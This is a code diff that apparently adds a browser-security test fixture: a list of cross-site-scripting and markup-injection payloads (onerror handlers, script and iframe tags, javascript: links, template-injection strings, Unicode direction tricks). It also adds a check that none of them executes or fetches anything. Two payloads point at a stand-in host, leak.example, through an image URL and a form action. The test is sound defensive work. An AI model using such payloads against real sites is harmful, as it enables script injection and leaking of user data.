@@ -31,6 +31,20 @@ const fetched = performance.getEntriesByType("resource").map((each) => each.name
 return found.concat([...sheets, ...fetched].filter((url) => !isOwn(url)));
 """
 
+RUN = "window.ran=1"
+HOSTILE = (
+    f"<img src=x onerror={RUN}>",
+    f"<script>{RUN}</script>",
+    f'"><svg/onload={RUN}>',
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"[link](javascript:{RUN}) ![leak](https://leak.example/?q=1)",
+    f"<a href='javascript:{RUN}'>わるい</a><style>*{{display:none}}</style>",
+    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1}",
+    "</textarea></p></article><form action=https://leak.example><input name=key>",
+    "\u202eesrever \u2066 isolate \u200b zero",
+)
+NAME = "<b onclick=1>蟹</b>"
+
 
 def nothing_ran(window: Browser) -> None:
     """Check that nothing was executed, added or fetched, and that the policy forbade nothing."""
